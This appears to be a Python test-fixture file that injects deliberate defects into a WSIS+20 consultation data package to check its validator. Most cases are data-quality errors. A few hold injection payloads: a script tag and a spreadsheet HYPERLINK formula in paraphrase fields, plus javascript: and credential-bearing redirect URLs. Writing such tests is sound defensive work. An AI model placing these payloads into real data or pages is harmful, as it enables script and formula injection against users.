add("decision-of-no-table", 2, "A decision is on a table that is not coded in passes.", [DE, "resource"], True,
    cell(DE, ("messages", "astana-s43", "kind"), resource="people"))
add("rules-missing", 2, "codebook/rules.md is not there, although the codebook refers to it.", ["rules.md"], False, rm("datapackage/codebook/rules.md"))
add("codebook-edited-by-hand", 2, "The generated codebook.md was edited by hand: its definition of a theme is not the one of themes.csv.", ["codebook.md"], False,
    sub("datapackage/codebook/codebook.md", ("- Definition: What being online costs those who use it.", "- Definition: What being online costs governments.")))
add("dictionary-count-wrong", 2, "The generated README of the package says one message more than the table has.", ["datapackage/README.md", "README.md"], False,
    txt("datapackage/README.md", lambda s: re.sub(r"(This is the unit of analysis\. \| )(\d+)", lambda m: f"{m[1]}{int(m[2]) + 1}", s, count=1)))
add("dictionary-description-stale", 2, "A schema's description was changed and `wsis20 describe` not run: the data dictionary says something else.", ["README.md", "people"], False,
    fld("people", "family_name", lambda f: f.update(description="Family name as the person writes it; `not determined` where that is unsafe.")))
add("empty-row-of-commas", 2, "A spreadsheet saved an emptied row as commas.", ["regions"], True, lines(D("regions"), lambda r: r.append(",,,,,")))
add("totals-row", 2, "A row with totals was left at the end of quantities.csv.", ["quantities", "Total"], True, lines(D("quantities"), lambda r: r.append("Total,,,,137,84,,6,12")))
add("comment-row", 2, "A comment was written into the table as a row.", ["organizations"], True, lines(D("organizations"), lambda r: r.insert(1, "# checked by AM 12.11.,,,,,")))
add("contents-of-two-files-swapped", 2, "The contents of people.csv and organizations.csv were swapped when saving.", ["people", "organizations"], True,
    lambda root: (lambda a, b: (wr(root, D("people"), b), wr(root, D("organizations"), a)))(rd(root, D("people")), rd(root, D("organizations"))))
add("half-of-file-twice", 2, "A merge kept the second half of responses.csv twice.", ["responses"], True, lines(D("responses"), lambda r: r + r[54:]))
add("table-emptied", 2, "exclusions.csv has its head alone, so that most of the record is neither stated nor excluded.", ["exclusions"], True, lines(D("exclusions"), lambda r: r[:1]))
add("table-transposed", 2, "quantities.csv was pasted transposed: fields are rows.", ["quantities"], True,
    lines(D("quantities"), lambda r: [",".join(t) for t in zip(*map(tokens, r))]))
add("column-shifted-down", 2, "Insert cell, shift down: from one row on, the phrases of the passages belong to the message before.", ["passages"], True,
    lines(D("passages"), lambda r: [r[0]] + [",".join(a[:4] + [b[4]] + a[5:]) for a, b in zip(map(tokens, r[1:]), map(tokens, [r[1]] + r[1:-1]))]))
add("one-column-sorted-alone", 2, "Only the column start_offset of passages.csv was sorted in a spreadsheet; the other columns stayed.", ["passages"], True,
    lines(D("passages"), lambda r: (lambda rows: [r[0]] + [",".join(t[:5] + [s] + t[6:]) for t, s in zip(rows, sorted((t[5] for t in rows), key=int))])(list(map(tokens, r[1:])))))
add("license-file-missing", 2, "LICENSE-DATA, to which README and descriptor refer, is not there.", ["LICENSE-DATA"], False, rm("LICENSE-DATA"))


# ================================================================ class 3: meaning of values

C, A, M = "consultations", "appearances", "messages"
# consultations
add("end-before-start", 3, "A consultation ends a day before it begins, in both entries.", [C, "dubai-2024", "end_date"], True, both(C, "dubai-2024", end_date="2024-05-21"))
add("region-contradicts-messages", 3, "The consultation of Vilnius is put into the Arab region while its messages are those of Europe.", ["vilnius-2024", "europe-k1", "region_id"], True, cell(C, "vilnius-2024", region_id="arab"))
add("coordinates-swapped", 3, "Latitude and longitude of Astana changed places, in both entries: a point in the Arctic Ocean.", ["astana-2024", "latitude"], True, both(C, "astana-2024", latitude="71.45", longitude="51.18"))
add("longitude-sign-lost", 3, "The minus of Santiago's longitude is gone in both entries: a point in the Indian Ocean.", ["santiago-2024", "longitude"], True, both(C, "santiago-2024", longitude="70.65"))
add("country-alpha-two", 3, "A country is written with two letters (KZ), where the field takes three.", ["astana-2024", "country_code"], True, cell(C, "astana-2024", country_code="KZ"))
add("country-not-assigned", 3, "JAP is no code of ISO 3166-1, in both entries (Japan is JPN).", ["kyoto-2023", "country_code", "JAP"], True, both(C, "kyoto-2023", country_code="JAP"))
add("country-sporting-code", 3, "SUI, the code of the IOC, stands for Switzerland in both entries (ISO: CHE).", ["geneva-2023", "country_code", "SUI"], True, both(C, "geneva-2023", country_code="SUI"))
add("city-in-other-country", 3, "Vilnius is put into Latvia, in the table alone.", ["vilnius-2024", "country_code"], True, cell(C, "vilnius-2024", country_code="LVA"))
add("misprint-restored-city", 3, "The misprint of the source, “Dar Res Salam”, was put back although the note says it is corrected.", ["dar-es-salaam-2024", "city"], True, cell(C, "dar-es-salaam-2024", city="Dar Res Salam"))
add("planned-with-messages", 3, "A consultation is “planned” in both entries, and has three key messages.", ["dubai-2024", "status"], True, both(C, "dubai-2024", status="planned"))
add("held-after-the-document", 3, "A document of 21 October reports as held, in both entries, what takes place in November.", ["dar-es-salaam-2024", "status"], True, both(C, "dar-es-salaam-2024", start_date="2024-11-11", end_date="2024-11-11"))
add("inferred-without-note", 3, "The year of Kyoto is called inferred in both entries, and no note on the sources says why.", ["kyoto-2023", "date_basis"], True, both(C, "kyoto-2023", date_basis="inferred"))
add("day-precision-of-ten-days", 3, "A period of ten days of an open consultation is given as exact to the day.", ["vilnius-2024", "date_precision"], True, both(C, "vilnius-2024", start_date="2024-06-11", end_date="2024-06-20"))
add("survey-with-city", 3, "The online survey has a city and a country, which a survey cannot have.", ["survey-2023", "city"], True, both(C, "survey-2023", city="Geneva", country_code="CHE"))
add("series-does-not-cover-members", 3, "The series begins in both entries after its first member, Kyoto, took place.", ["global-series", "start_date"], True, both(C, "global-series", start_date="2023-11-10"))
add("part-of-itself", 3, "The series is a part of itself.", ["global-series", "part_of"], True, cell(C, "global-series", part_of="global-series"))
add("part-of-a-meeting", 3, "Geneva is said to be a part of Kyoto, which is a meeting and no series.", ["geneva-2023", "part_of"], True, cell(C, "geneva-2023", part_of="kyoto-2023"))
add("organiser-unknown", 3, "A list of organisers names unesco, which is not among the organizations.", ["astana-2024", "organizers", "unesco"], True, cell(C, "astana-2024", organizers="cstd;escap;itu;unesco"))
add("organisers-by-comma", 3, "A list is separated by commas in place of semicolons.", ["astana-2024", "organizers"], True, cell(C, "astana-2024", organizers="cstd,escap,itu"))
add("organiser-twice", 3, "An organiser stands twice in a list.", ["astana-2024", "organizers"], True, cell(C, "astana-2024", organizers="cstd;escap;itu;itu"))
add("missing-beside-value-in-list", 3, "A list holds a value and, beside it, the word for a missing one.", ["kyoto-2023", "organizers"], True, cell(C, "kyoto-2023", organizers="cstd;not stated"))
add("date-in-european-form", 3, "Excel wrote a date as 22/05/2024.", ["dubai-2024", "start_date"], True, cell(C, "dubai-2024", start_date="22/05/2024"))
add("date-with-midnight", 3, "A date came back from a spreadsheet with a time of day: 2024-06-17 00:00:00.", ["vilnius-2024", "start_date"], True, cell(C, "vilnius-2024", start_date="2024-06-17 00:00:00"))
add("date-as-serial-number", 3, "Excel saved a date as its serial number, 45209.", ["global-series", "start_date", "45209"], True, cell(C, "global-series", start_date="45209"))
add("day-not-in-calendar", 3, "31 September 2023 does not exist.", ["survey-2023", "start_date"], True, both(C, "survey-2023", start_date="2023-09-31"))
add("silence-read-as-format", 3, "Astana is called hybrid although its document prints no form and a note says so.", ["astana-2024", "format"], True, cell(C, "astana-2024", format="hybrid"))
add("missing-as-n-a", 3, "A missing venue is written “n/a”, a fourth way of missing that no reader knows.", ["dubai-2024", "venue", "n/a"], True, cell(C, "dubai-2024", venue="n/a"))
add("missing-capitalised", 3, "“Not stated” with a capital is a value and not missing.", ["kyoto-2023", "host_event"], True, cell(C, "kyoto-2023", host_event="Not stated"))
add("missing-venue-of-meeting-empty", 3, "The venue of a meeting is empty (does not apply) where it is not stated.", ["vilnius-2024", "venue"], True, cell(C, "vilnius-2024", venue=""))
add("document-held-elsewhere", 3, "A consultation of June 2024 is said to be taken from a newsletter of December 2025, while its place is a list of the progress report.", ["vilnius-2024", "document_id"], True, cell(C, "vilnius-2024", document_id="igf-newsletter-2025-12"))
# appearances, speakers, organizations, regions
add("order-given-twice", 3, "Two people have the same place in the order of the consultation.", [A, "astana-2024-ba", "sequence"], True, both(A, "astana-2024-ba", sequence="9"))
add("order-with-gap", 3, "The order of the people jumps from 12 to 14, in both entries.", ["astana-2024-de-guzman", "sequence"], True, both(A, "astana-2024-de-guzman", sequence="14"))
add("author-at-a-consultation", 3, "The author of a document is said to appear at a consultation in that role.", ["progress-report-sirimanne", "consultation_id"], True, cell(A, "progress-report-sirimanne", consultation_id="geneva-2023"))
add("group-contradicts-organization", 3, "A speaker of UNIDO is of the private sector in both entries, UNIDO itself is intergovernmental.", ["astana-2024-koume", "stakeholder_group"], True, both(A, "astana-2024-koume", stakeholder_group="private sector"))
add("group-without-organization", 3, "A group was assigned, in both entries, to a speaker whose organization is not stated.", ["astana-2024-de-guzman", "stakeholder_group"], True, both(A, "astana-2024-de-guzman", stakeholder_group="technical community"))
add("country-not-printed", 3, "A country that the post does not print was filled in from elsewhere.", ["astana-2024-abdullah", "country_code"], True, cell(A, "astana-2024-abdullah", country_code="MYS"))
add("speaker-twice-at-one-meeting", 3, "Two appearances of one meeting are given to the same person, and another person has none.", ["astana-2024-abbasi", "person_id", "salma-abbasi"], True, cell(A, "astana-2024-abbasi", person_id="bocar-ba"))
add("appearance-from-wrong-document", 3, "An appearance in Astana is taken from the progress report, which names no speaker there.", ["astana-2024-kah", "document_id"], True, cell(A, "astana-2024-kah", document_id="progress-report"))
add("speaker-without-appearance", 3, "A person was added who appears nowhere.", ["people", "jane-doe"], True, insert("people", "jane-doe", "Jane Doe", "Jane", "Doe", "Jane Doe", ""))
add("name-not-of-its-parts", 3, "The spell checker corrected a family name in one of two fields: the parts do not make the name.", ["people", "cynthia-lesufi"], True, cell("people", "cynthia-lesufi", family_name="Lesson"))
add("given-and-family-swapped", 3, "Given and family name changed places, so that the person is sorted and cited wrongly.", ["people", "tomoyoshi-koume"], True, cell("people", "tomoyoshi-koume", given_name="Koume", family_name="Tomoyoshi"))
add("honorific-among-printed-names", 3, "The forms of a name hold an honorific, which they must not.", ["people", "salma-abbasi", "names_as_printed"], True, cell("people", "salma-abbasi", names_as_printed="Dr. Salma Abbasi"))
add("printed-form-of-another-person", 3, "The forms of a name in print hold that of another person.", ["people", "serik-ibrayev", "names_as_printed"], True, cell("people", "serik-ibrayev", names_as_printed="Ibrayev Serik;Ardabayev Azamat"))
add("country-of-international-body", 3, "An intergovernmental organization has a country, in both entries.", ["organizations", "unctad", "country_code"], True, both("organizations", "unctad", country_code="CHE"))
add("acronym-of-another-body", 3, "Two organizations have the acronym ITU, in both entries.", ["organizations", "unido", "acronym"], True, both("organizations", "unido", acronym="ITU"))
add("two-global-regions", 3, "Two regions are of global scope, of which there is one.", ["regions", "latin-america", "scope"], True, cell("regions", "latin-america", scope="global"))
add("sort-order-twice", 3, "Two regions have the same place in the order.", ["regions", "sort_order", "africa"], True, cell("regions", "africa", sort_order="4"))
add("commission-misspelt", 3, "The commission of a region is none of the five of the United Nations, in both entries.", ["regions", "africa", "un_commission"], True, both("regions", "africa", un_commission="UNECA-X"))
# messages
add("kind-of-neither-pass", 3, "The kind of a message is that of neither reading.", [M, "astana-s41", "kind"], True, cell(M, "astana-s41", kind="commitment"))
add("kinds-differ-undecided", 3, "A second reading differs in kind, and no line of decisions.md decides it.", [M, "astana-s57", "kind"], True, cell(M, "astana-s57", kind_b="commitment"))
add("call-without-addressee", 3, "A call has an empty addressee; it would have to be somebody or not stated.", [M, "astana-s63", "addressee"], True, cell(M, "astana-s63", addressee=""))
add("addressee-of-no-call", 3, "A message that is no call has an addressee.", [M, "astana-s66", "addressee"], True, cell(M, "astana-s66", addressee="governments"))
add("statement-without-speaker", 3, "A statement has no appearance: nobody said it.", [M, "astana-s61", "appearance_id"], True, cell(M, "astana-s61", appearance_id=""))
add("key-message-with-speaker", 3, "A key message of the secretariat is put into a speaker's mouth.", [M, "asia-pacific-k1", "appearance_id"], True, cell(M, "asia-pacific-k1", appearance_id="astana-2024-alisjahbana"))
add("statement-of-wrong-speaker", 3, "A statement is given to the next speaker although it stands, by its place and offsets, with the one before.", [M, "astana-s25", "astana-2024-abdullah"], True, cell(M, "astana-s25", appearance_id="astana-2024-abdullah"))
add("number-contradicts-identifier", 3, "Number and identifier of a key message differ: africa-k3 is number 4.", [M, "africa-k3", "number"], True, cell(M, "africa-k3", number="4"))
add("numbers-of-two-swapped", 3, "Two statements have changed numbers, against their identifiers and the order of the text.", [M, "astana-s26", "number"], True, seq(cell(M, "astana-s26", number="999"), cell(M, "astana-s27", number="26"), cell(M, "astana-s26", number="27")))
add("region-of-message-wrong", 3, "A message of the consultation in Dubai is counted for Europe.", [M, "arab-k1", "region_id"], True, cell(M, "arab-k1", region_id="europe"))
add("message-of-one-member-of-series", 3, "A message that the report gives for both global meetings is given to Kyoto alone.", [M, "global-k1", "consultation_id"], True, cell(M, "global-k1", consultation_id="kyoto-2023"))
add("layer-against-identifier", 3, "A finding of the survey is called a key message while its identifier says f.", [M, "survey-f1", "layer"], True, cell(M, "survey-f1", layer="key message"))
add("text-of-two-sentences", 3, "A paraphrase has two sentences, the second an opinion of the editor.", [M, "africa-k2", "paraphrase"], True, cell(M, "africa-k2", paraphrase="Civil society should be given more support. This was long overdue!"))
add("text-with-quotation", 3, "A paraphrase quotes more than eight words in a row of its source.", [M, "asia-pacific-k2", "paraphrase"], True, cell(M, "asia-pacific-k2", paraphrase="The report says that “gender inclusion and equity and child online protection should be prioritized by all”."))
add("text-same-as-another", 3, "A merge put the text of one message into another.", [M, "astana-s36", "paraphrase"], True, cell(M, "astana-s36", paraphrase="It is essential to build on the WSIS outcomes of this year and the next."))
add("text-same-but-case", 3, "Two messages have the same text but for capitals, which unique does not see.", [M, "astana-s34", "astana-s35", "paraphrase"], True, cell(M, "astana-s35", paraphrase="The leading UN Agency's role in implementing the WSIS outcomes and in the twenty-year review needs to be reinforced."))
add("text-with-script", 3, "A paraphrase holds a script that a page might run.", [M, "global-k7", "paraphrase"], True, cell(M, "global-k7", paraphrase=lambda v: v[:-1] + "<script>window.__pwned=1</script>."))
add("text-placeholder", 3, "A paraphrase is a placeholder: “TODO: paraphrase item 3 here”.", [M, "survey-f3", "paraphrase"], True, cell(M, "survey-f3", paraphrase="TODO: paraphrase the third item of the list here."))
add("text-formula", 3, "A text begins with an equals sign and is run as a formula by a spreadsheet.", [M, "astana-s59", "paraphrase"], True, cell(M, "astana-s59", paraphrase='=HYPERLINK("http://127.0.0.1:9/pwned","There is potential for more cooperation.")'))
add("text-cut-at-sentence-middle", 3, "A paraphrase was cut off in the middle of a word, without its full stop.", [M, "astana-s56", "paraphrase"], True, cell(M, "astana-s56", paraphrase=lambda v: v[:60]))
# passages and exclusions
P, X = "passages", "exclusions"
add("phrase-of-nine-words", 3, "A phrase has nine words, against the limit of eight.", [P, "astana-s01-p1", "phrase"], True, cell(P, "astana-s01-p1", phrase="particularly ITU and UNCTAD for the promotion of skills"))
add("phrase-joined-by-dashes", 3, "A phrase gets round the limit of eight words by hyphens, and is not what the source prints.", [P, "global-k7-p1", "phrase"], True, cell(P, "global-k7-p1", phrase="International-cooperation-frameworks-should-evolve-and-focus-on-today"))
add("phrase-twice-in-document", 3, "Two passages of a document have the same phrase, which is to find one place only.", [P, "astana-s20-p1", "phrase"], True, cell(P, "astana-s20-p1", phrase="crucial opportunity to assess progress"))
add("phrase-longer-than-passage", 3, "A phrase has more characters than the passage that it stands in.", [P, "survey-f2-p1"], True, cell(P, "survey-f2-p1", end_offset="1340"))
add("passages-overlap", 3, "A passage reaches into the next one.", [P, "astana-s08-p1", "astana-s09-p1"], True, cell(P, "astana-s08-p1", end_offset="2900"))
add("passage-beyond-document", 3, "A passage ends behind the last character of its document (3653).", [P, "africa-k3-p1"], True, cell(P, "africa-k3-p1", start_offset="3648", end_offset="3742"))
add("gap-in-record", 3, "A stretch of the record is neither statement nor exclusion after an exclusion was shortened.", [X, "astana-record-x17"], True, cell(X, "astana-record-x17", end_offset="8474"))
add("exclusion-overlaps-passage", 3, "An exclusion covers a part of a statement.", [X, "astana-record-x13", "astana-record-x14"], True, cell(X, "astana-record-x14", end_offset="6120"))
add("hash-of-nothing", 3, "A passage has the SHA-256 of no text at all.", [P, "europe-k2-p1", "sha256"], True, cell(P, "europe-k2-p1", sha256="e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"))
add("hash-of-another-passage", 3, "Two passages of different places have the same SHA-256.", [P, "arab-k3-p1", "sha256"], True, cell(P, "arab-k3-p1", sha256="793177a550cb66d5015328406dcac4dc9bbf25bbc4d6fd4defc5a094d008a0ee"))
add("hash-upper-case", 3, "A SHA-256 is written in capitals.", [X, "astana-record-x03", "sha256"], True, cell(X, "astana-record-x03", sha256=str.upper))
add("passage-of-other-document", 3, "The passage of a message is in another document than the message.", [P, "astana-s30-p1", "document_id"], True, cell(P, "astana-s30-p1", document_id="progress-report"))
add("locator-of-other-region", 3, "The place of a message of Africa is the list of the Arab region.", [P, "africa-k1-p1", "locator"], True, cell(P, "africa-k1-p1", locator="Key messages from regional consultations, Arab region, item 1"))
add("locator-with-page", 3, "A place names page 12 although the document prints no page numbers.", [P, "global-k4-p1", "locator"], True, cell(P, "global-k4-p1", locator="page 12"))
# quantities
Q = "quantities"
add("range-upside-down", 3, "The low end of a range is above its high end, in both entries.", [Q, "astana-s48-q1"], True, both(Q, "astana-s48-q1", value_low="3", value_high="1"))
add("percent-above-hundred", 3, "A subsidy is 800 percent, in both entries.", [Q, "astana-s45-q1"], True, both(Q, "astana-s45-q1", value_low="800", value_high="800"))
add("number-not-in-message", 3, "The quantity is 85 in both entries where its message says 80%.", [Q, "astana-s45-q1"], True, both(Q, "astana-s45-q1", value_low="85", value_high="85"))
add("over-with-high-end", 3, "A number qualified by “over” has a high end.", [Q, "astana-s49-q1", "value_high"], True, both(Q, "astana-s49-q1", value_high="30"))
add("exactly-with-two-values", 3, "A number that is not qualified has two different ends.", [Q, "astana-s12-q1"], True, both(Q, "astana-s12-q1", value_high="6"))
add("half-a-change", 3, "The value before a change has a low end and no high one, in both entries.", [Q, "astana-s48-q1", "before_high"], True, both(Q, "astana-s48-q1", before_high=""))
add("unit-as-sign", 3, "A unit is written % in one row and percent in the others.", [Q, "astana-s28-q1", "unit"], True, cell(Q, "astana-s28-q1", unit="%"))
# observations and indicators
O, F24, F25, FF23 = "observations", "Facts and Figures 2024", "Facts and Figures 2025", "Facts and Figures 2023"
add("share-above-hundred", 3, "104 percent of people are covered, in both entries.", [O, "coverage-3g", "value"], True, both(O, ("coverage-3g", "World", "2025", F25), value="104"))
add("value-not-a-number", 3, "A value is NaN, which many number parsers take.", [O, "coverage-4g", "value"], True, both(O, ("coverage-4g", "World", "2025", F25), value="NaN"))
add("value-infinite", 3, "A value is INF, which the standard's number type takes.", [O, "internet-gender-gap", "value"], True, both(O, ("internet-gender-gap", "World", "2023", FF23), value="INF"))
add("later-network-reaches-more", 3, "4G reaches 97 percent and 3G or better 96, in both entries: impossible.", [O, "coverage-4g"], True, both(O, ("coverage-4g", "World", "2025", F25), value="97"))
add("parity-not-the-ratio", 3, "Parity is 0.96 in both entries where the shares are 24 and 35 percent.", [O, "internet-gender-parity", "Africa"], True, both(O, ("internet-gender-parity", "Africa", "2020", "Internet use moving closer to gender parity"), value="0.96"))
add("decimal-comma", 3, "A European locale turned 21.8 into 21,8.", [O, "internet-use-share", "Africa"], True, cell(O, ("internet-use-share", "Africa", "2017", "Wikipedia, column 2017"), value="21,8"))
add("value-became-date", 3, "Excel turned 2.5 into a date.", [O, "price-fixed-basket"], True, cell(O, ("price-fixed-basket", "World", "2025", F25), value="02. May"))
add("value-with-unit", 3, "A value is written with its sign: 74%.", [O, "internet-use-share", "World"], True, cell(O, ("internet-use-share", "World", "2025", F25), value="74%"))
add("value-in-exponent-form", 3, "A number is written 2.44E+02 by a spreadsheet; the table has 244.", [O, "internet-gender-gap"], True, cell(O, ("internet-gender-gap", "World", "2023", FF23), value="2.44E+02"))
add("users-in-other-unit", 3, "5500 stands where the unit is billions, in both entries: millions were entered.", [O, "internet-users"], True, both(O, ("internet-users", "World", "2024", F24), value="5500"))
add("men-and-women-above-all", 3, "Of women 75 and of men 70 percent are online, of all people 68: no mean lies outside its parts, in both entries.", [O, "internet-use-share-women"], True, both(O, ("internet-use-share-women", "World", "2024", F24), value="75"))
add("economies-not-whole", 3, "88.5 economies meet a target, in both entries.", [O, "target-met-fixed"], True, both(O, ("target-met-fixed", "World", "2025", F25), value="88.5"))
add("more-economies-than-counted", 3, "230 economies meet a target of 205 with data (and some 195 states), in both entries.", [O, "target-met-mobile"], True, both(O, ("target-met-mobile", "World", "2025", F25), value="230"))
add("world-as-itu-region", 3, "The world is put among the ITU regions, and would be drawn as one.", [O, "coverage-5g", "World", "area_scheme"], True, cell(O, ("coverage-5g", "World", "2024", F24), area_scheme="ITU region"))
add("year-after-edition", 3, "The edition of 2023 gives a value for 2026, in the row and its second readings.", [O, "coverage-5g", "CIS"], True,
    seq(sub(D(O), ("coverage-5g,CIS,ITU region,2023,Facts", "coverage-5g,CIS,ITU region,2026,Facts")), lines(D(O), lambda r: (lambda line: (r.remove(line), sorted_in(O, r, line)))(next(x for x in r if ",2026," in x)) and None),
        lines(D("second_readings"), lambda r: [r[0]] + sorted((x.replace("coverage-5g / CIS / 2023 /", "coverage-5g / CIS / 2026 /") for x in r[1:]), key=lambda x: tuple(map(plain, tokens(x)[:3]))))))
add("edition-not-that-of-document", 3, "A value is under the edition 2025 and was read in a document of the edition 2024.", [O, "document_id", "Europe"], True, both(O, ("coverage-5g", "Europe", "2025", F25), document_id="itu-ff24-mobile-coverage"))
add("direct-from-an-account", 3, "A value read in a newspaper is called direct, in both entries.", [O, "Americas", "confidence"], True, both(O, ("internet-use-share", "Americas", "2025", F25), confidence="direct"))
add("inferred-without-reasoning", 3, "A deduced value has no note with the reasoning.", [O, "CIS", "note"], True, cell(O, ("internet-use-share", "CIS", "2025", F25), note=""))
add("area-in-two-spellings", 3, "“Asia and Pacific” stands for Asia-Pacific in one row, and makes a ninth area.", [O, "Asia"], True, seq(sub(D(O), ("coverage-5g,Asia-Pacific,ITU region,2023", "coverage-5g,Asia and Pacific,ITU region,2023")), sub(D("second_readings"), ("coverage-5g / Asia-Pacific / 2023", "coverage-5g / Asia and Pacific / 2023"), count=0), lines(D("second_readings"), lambda r: [r[0]] + sorted(r[1:], key=lambda x: tuple(map(plain, tokens(x)[:3]))))))
add("indicator-without-values", 3, "An indicator was added that has no value.", ["indicators", "coverage-6g"], True, like("indicators", "coverage-5g", indicator_id="coverage-6g", name="Population covered by 6G"))
add("licence-claimed", 3, "The licence of ITU's figures is given as CC BY 4.0 although the note says that it is not determined.", ["indicators", "internet-users", "license"], True, cell("indicators", "internet-users", license="CC BY 4.0"))
# documents
DO = "documents"
add("held-without-hash", 3, "A text is held, and its SHA-256 is empty.", [DO, "astana-record", "sha256"], True, cell(DO, "astana-record", sha256=""))
add("hash-without-text", 3, "A document that was not read has a length in characters.", [DO, "res-80-173", "characters"], True, cell(DO, "res-80-173", characters="41200"))
add("document-shorter-than-record", 3, "The record has fewer characters than the end of its last stretch.", [DO, "astana-record", "characters"], True, cell(DO, "astana-record", characters="12900"))
add("citation-key-not-in-bibliography", 3, "The citation key of a document is in no bibliography.", [DO, "gfmd-how-to-engage", "citation_key"], True, cell(DO, "gfmd-how-to-engage", citation_key="gfmd2025involve"))
add("citation-keys-swapped", 3, "Two documents have changed citation keys: each is cited as the other.", [DO, "dig-watch-rev1", "citation_key"], True, seq(cell(DO, "dig-watch-rev1", citation_key="x1"), cell(DO, "dig-watch-rev2", citation_key="digwatch2025rev1"), cell(DO, "dig-watch-rev1", citation_key="digwatch2025rev2")))
add("document-of-the-future", 3, "A document is dated after the release of the dataset, in both entries.", [DO, "res-79-277", "document_date"], True, both(DO, "res-79-277", document_date="2027-12-18"))
add("month-not-from-the-first", 3, "A date known to the month is not stored as the first of the month, in both entries.", [DO, "res-79-277", "document_date"], True, seq(both(DO, "res-79-277", document_date="2025-03-16"), both(DO, "res-79-277", date_precision="month")))
add("precision-without-date", 3, "A document without a date has a precision, in both entries.", [DO, "afnic-wsis20-outcome", "date_precision"], True, both(DO, "afnic-wsis20-outcome", date_precision="month"))
add("address-javascript", 3, "The address of a document is a script.", [DO, "dig-watch-rev2", "url"], True, cell(DO, "dig-watch-rev2", url="javascript:window.__pwned=1//https://dig.watch/"))
add("address-on-own-disk", 3, "The address of a document is a file on somebody's disk.", [DO, "jprs-rev2-opinion", "url"], True, cell(DO, "jprs-rev2-opinion", url="file:///C:/Users/alice/Downloads/251209.html"))
add("address-with-password", 3, "The address of a document holds a user and a password, and leads to another host than it seems to.", [DO, "itu-ff24-gender", "url"], True, cell(DO, "itu-ff24-gender", url="https://www.itu.int:443@127.0.0.1/ff24-the-gender-digital-divide"))
add("address-cut", 3, "The address of a document lost its scheme.", [DO, "isoc-mail-zero-draft", "url"], True, cell(DO, "isoc-mail-zero-draft", url="www.internetsociety.org/?p=242654"))
add("language-is-country-code", 3, "jp is no language of ISO 639-1 (Japanese is ja).", [DO, "yomiuri-ff25", "language"], True, cell(DO, "yomiuri-ff25", language="jp"))
# milestones
MS = "milestones"
add("kept-outside-period", 3, "A step is called kept and took place, in both entries, a month after the planned period.", [MS, "report-discussion", "outcome"], True, both(MS, "report-discussion", actual_start="2025-06-02", actual_end="2025-06-06"))
add("moved-within-period", 3, "A step is called moved although it took place within the planned period.", [MS, "progress-report-2024", "outcome"], True, cell(MS, "progress-report-2024", outcome="moved"))
add("plan-ends-before-it-begins", 3, "A planned period ends before it begins, in both entries.", [MS, "drafting"], True, both(MS, "drafting", planned_end="2024-02-29"))
add("month-cut-short", 3, "A period known to the month ends on the 30th of a month of 31 days, in both entries.", [MS, "final-revision", "planned_end"], True, both(MS, "final-revision", planned_end="2025-05-30"))
add("actual-after-release", 3, "A step took place after the release of the dataset that reports it, in both entries.", [MS, "zero-draft-consultation"], True, both(MS, "zero-draft-consultation", actual_start="2027-10-13", actual_end="2027-10-14"))
add("never-planned-with-plan", 3, "A step that was “not in the plan” has a planned period.", [MS, "rev1-consultation"], True, both(MS, "rev1-consultation", planned_start="2025-11-01", planned_end="2025-11-30", planned_precision="month", planned_document_id="progress-report"))
add("happened-without-document", 3, "A step took place on a known day, and no document shows it, in both entries.", [MS, "adoption", "actual_document_id"], True, both(MS, "adoption", actual_document_id="not determined"))
add("second-revision-before-first", 3, "Revision 2 came out before Revision 1, in both entries.", [MS, "rev2"], True, both(MS, "rev2", actual_start="2025-11-03", actual_end="2025-11-03"))
add("document-before-its-news", 3, "A mail of 29 July shows a step of 29 August, in both entries: nobody reports what is still to come as done.", [MS, "ecosoc-resolution"], True, both(MS, "ecosoc-resolution", actual_start="2025-08-29", actual_end="2025-08-29"))
# provisions, responses, codings, traces, themes, notes, second readings
PR, R, CO, T, TH, SN, SR = "provisions", "responses", "codings", "traces", "themes", "source_notes", "second_readings"
add("paragraph-against-identifier", 3, "The paragraph of res-80-173-p24 is 42.", [PR, "res-80-173-p24", "paragraph"], True, cell(PR, "res-80-173-p24", paragraph="42"))
add("recital-and-paragraph", 3, "A provision is a recital and a paragraph.", [PR, "res-80-173-p24", "recital"], True, cell(PR, "res-80-173-p24", recital="9"))
add("paragraph-of-nothing", 3, "The last paragraph is gone, with all that refers to it.", [PR, "127"], True,
    lines(D("provisions"), lambda r: [x.replace(",,99,", ",,128,").replace("res-80-173-p99,", "res-80-173-p128,") if x.startswith("res-80-173-p99,") else x for x in r]))
add("provision-elsewhere", 3, "A provision has the offsets of another.", [PR, "res-80-173-p72"], True, cell(PR, "res-80-173-p72", start_offset="22714", end_offset="23211"))
add("provision-of-an-account", 3, "A provision is said to be of an account and not of the resolution.", [PR, "res-80-173-p72", "document_id"], True, cell(PR, "res-80-173-p72", document_id="dig-watch-rev2"))
add("section-of-another", 3, "A provision stands under a heading that comes later.", [PR, "section"], True, cell(PR, "res-80-173-p24", section="Follow-up and review"))
add("act-of-nobody", 3, "A request has no actor.", ["acts", "res-80-173-p113-a1", "actors"], True, cell("acts", ("res-80-173-p113-a1", "agreed"), actors=""))
add("act-with-actor-of-a-note", 3, "Somebody is to act by a verb that only notes.", ["acts", "res-80-173-p72-a1", "actors"], True, cell("acts", ("res-80-173-p72-a1", "agreed"), actors="Governments"))
add("act-weaker-than-both-readings", 3, "The agreed force is that of neither reading, and no decision says why.", [DE, "res-80-173-p99-a1"], True, cell("acts", ("res-80-173-p99-a1", "agreed"), force="invites"))
add("due-year-of-the-past", 3, "An act is due in a year before the resolution.", ["acts", "res-80-173-p127-a1", "due_year"], True, cell("acts", ("res-80-173-p127-a1", "agreed"), due_year="2005"))
add("answer-without-an-act", 3, "A provision that sets nobody to do anything answers a call.", ["responses", "africa-k3-p5", "degree"], True, cell("responses", ("africa-k3-p5", "agreed"), degree="answers"))
add("call-never-judged", 3, "A call has neither a response nor a row that says none.", ["messages", "asia-pacific-k3"], True, drop("responses", ("asia-pacific-k3-none", "agreed")))
add("pass-not-told", 3, "A pass has no row that says how it was made.", ["passes", "traces"], True, drop("passes", ("traces", "B", "africa-k1")))
add("region-of-a-speaker-guessed", 3, "A region is given for a person with whom no country is printed.", ["appearances", "astana-2024-koume", "country_region_id"], True, cell("appearances", "astana-2024-koume", country_region_id="asia-pacific"))
add("no-theme-with-theme-provision", 3, "A provision has the code no-theme beside a theme.", ["provision_codings", "res-80-173-p15"], True, insert("provision_codings", "res-80-173-p15", "skills", "A", ""))
add("response-to-no-call", 3, "A provision answers an achievement, which asks for nothing.", [R, "astana-s01"], True, seq(*(insert(R, "astana-s01", "res-80-173-multistakeholder", p, "touches", "Both are about the multistakeholder model.") for p in ("A", "B", "agreed"))))
